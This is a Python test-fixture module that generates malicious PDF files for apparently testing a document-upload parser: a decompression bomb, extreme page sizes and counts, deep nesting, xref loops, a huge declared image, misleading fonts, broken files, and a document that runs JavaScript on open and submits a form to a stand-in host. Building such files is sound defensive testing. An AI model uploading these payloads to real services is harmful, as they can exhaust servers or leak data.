"""A hostile corpus, built in code (nothing downloaded): each builder returns the bytes of one file an
attacker could upload. Sizes stay small on disk; what is hostile is what the file declares."""

from __future__ import annotations

import functools
import zlib

import pymupdf

GIB = 1024**3


def raw_pdf(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from its numbered objects (1..n) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer_extra,
        xref,
    )
    return bytes(out)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def _one_page(content_ref: bytes = b"4 0 R", resources: bytes = b"<< >>", box: bytes = b"[0 0 595 842]") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents %s >>" % (box, resources, content_ref),
    ]


@functools.cache
def decompression_bomb(mebibytes: int = 1025) -> bytes:
    """A page whose content stream is about 1 MB of Flate data inflating to more than 1 GiB.

    One MiB of spaces is deflated once, ending on a full flush (byte-aligned, no reference to earlier
    data), and that block sequence repeated: a valid zlib stream built in milliseconds."""
    chunk = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    checksum = 1
    for _ in range(mebibytes):
        checksum = zlib.adler32(chunk, checksum)
    deflated = b"\x78\xda" + block * mebibytes + end + checksum.to_bytes(4, "big")
    return raw_pdf([*_one_page(), _stream(b"/Filter /FlateDecode", deflated)])


def giant_page(side: float = 14_400) -> bytes:
    """One page of ``side`` x ``side`` points (14,400 pt is the largest PDF allows) with a line of text."""
    doc = pymupdf.open()
    page = doc.new_page(width=side, height=side)
    page.insert_text((72, 100), "The family moved in the spring.", fontsize=11)
    return doc.tobytes()


def oversized_page() -> bytes:
    """A page box far beyond what PDF allows (a million points a side)."""
    content = _stream(b"", b"BT /F1 12 Tf 72 100 Td (Hello) Tj ET")
    return raw_pdf([*_one_page(box=b"[0 0 1000000 1000000]"), content])


def many_pages(count: int = 10_000) -> bytes:
    """``count`` small pages, each its own object."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * count
    return raw_pdf(objects)


def deep_nesting(depth: int = 100_000) -> bytes:
    """An object of arrays nested ``depth`` deep, hung from the page."""
    nested = b"[" * depth + b"]" * depth
    page = _one_page(resources=b"<< /Deep 5 0 R >>")
    return raw_pdf([*page, _stream(b"", b"BT /F1 12 Tf 72 100 Td (Hello) Tj ET"), nested])


def xref_loop() -> bytes:
    """A page tree whose Kids point back at itself and a trailer whose /Prev points at its own xref."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"", b"BT /F1 12 Tf 72 100 Td (Hello) Tj ET"),
    ]
    data = raw_pdf(objects)
    xref = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return raw_pdf(objects, trailer_extra=b"/Prev %d " % xref)


def javascript() -> bytes:
    """A document that runs JavaScript when opened (OpenAction) and on a link."""
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), "The review panel met in March.", fontsize=11)
    js = doc.get_new_xref()
    doc.update_object(js, "<< /S /JavaScript /JS (app.alert('x'); this.submitForm('http://example.invalid')) >>")
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
    return doc.tobytes()


def huge_image(width: int = 60_000, height: int = 60_000) -> bytes:
    """An image XObject declaring ``width`` x ``height`` grey pixels, drawn on the page (its data is a
    few bytes: what is hostile is the declaration)."""
    pixels = zlib.compress(b"\x80" * 4096)
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height),
        pixels,
    )
    page = _one_page(resources=b"<< /XObject << /Im1 5 0 R >> >>")
    return raw_pdf([*page, _stream(b"", b"q 500 0 0 700 50 50 cm /Im1 Do Q"), image])


def font_without_tounicode() -> bytes:
    """Text in a font whose encoding maps codes to made-up glyph names and that has no ToUnicode map:
    what a reader extracts is not the words on the page."""
    differences = b" ".join(b"/g%d" % code for code in range(65, 91))
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [65 %s] >> >>" % differences
    page = _one_page(resources=b"<< /Font << /F1 5 0 R >> >>")
    return raw_pdf([*page, _stream(b"", b"BT /F1 12 Tf 72 700 Td (HELLO WORLD) Tj ET"), font])


def truncated() -> bytes:
    doc = pymupdf.open()
    doc.new_page().insert_text((72, 100), "The panel met in March.", fontsize=11)
    data = doc.tobytes()
    return data[: len(data) // 2]


def wrong_type() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(256)
